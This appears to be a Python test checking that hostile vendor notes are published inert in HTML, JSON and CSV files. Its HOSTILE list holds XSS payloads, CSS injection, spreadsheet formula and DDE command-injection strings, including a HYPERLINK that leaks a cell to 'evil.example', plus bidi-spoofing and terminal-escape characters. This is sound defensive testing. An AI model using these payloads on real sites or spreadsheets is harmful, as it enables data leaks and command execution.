"""Hostile text typed into a vendor, through its sandbox, the rules and the ledger, to the published files."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser

from publisher.inert import csv_text, plain
from publisher.render import CSV_HEADER

from .conftest import Rig

# Each is already what the rules would publish (single spaces, no technician names), so the
# expected text is the input made plain.
HOSTILE = [
    '<script>alert("x")</script> Rebooted the server',
    "<img src=x onerror=alert(1)> Replaced the toner",
    '<a href="javascript:alert(1)">Click here</a> for the report',
    "javascript:alert(document.cookie)",
    '"><svg onload=alert(1)> Checked the backups',
    "</style><style>body{display:none}</style> Moved the mailbox",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open invoice")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\u202eFixed the fdp.exe attachment",
    "Billed 1 h\u2066 (of 10)\u2069 today\u200f",
    '\u202b=HYPERLINK("http://evil.example","Pay here")',
    "Escaped the terminal \x1b[2J\x1b]0;owned\x07 for good",
]
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


async def test_hostile_vendor_text_is_published_inert_in_html_json_and_csv(rig: Rig) -> None:
    for notes in HOSTILE:
        rig.sandbox.add_entry(client_id=5001, hours=0.5, notes=notes, started_time="10:00am")
    await rig.coordinator.sync_all(reconcile=True)
    folder = rig.publish_dir / "c" / rig.store.token_for("acme-dental", now=rig.clock())
    expected = {plain(notes) for notes in HOSTILE}

    page = Page()
    page.feed((folder / "index.html").read_text(encoding="utf-8"))
    assert not {"script", "img", "iframe", "object", "embed", "link", "base", "form"} & set(page.tags)
    assert page.tags.count("style") == 1 and page.tags.count("a") == 2
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    assert {value for name, value in page.attributes if name == "href"} == {"balance.json", "log.csv"}
    assert not [value for _, value in page.attributes if "javascript:" in value.lower()]
    for text in expected:
        assert text in page.text  # shown as written, as text

    document = json.loads((folder / "balance.json").read_text(encoding="utf-8"))
    assert expected <= {line["description"] for line in document["lines"]}

    with (folder / "log.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = [dict(zip(CSV_HEADER, row, strict=True)) for row in list(csv.reader(fh))[1:]]
    cells = {row["description"] for row in rows}
    assert {csv_text(notes) for notes in HOSTILE} <= cells
    for row in rows:
        assert not row["description"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        assert all(re.fullmatch(r"-?\d+\.\d{2}", row[c]) for c in ("hours_logged", "hours_charged", "balance_after"))

    for name in ("index.html", "balance.json", "log.csv"):
        text = (folder / name).read_text(encoding="utf-8-sig")
        assert not BIDI.search(text) and "\x1b" not in text and "\x07" not in text, name
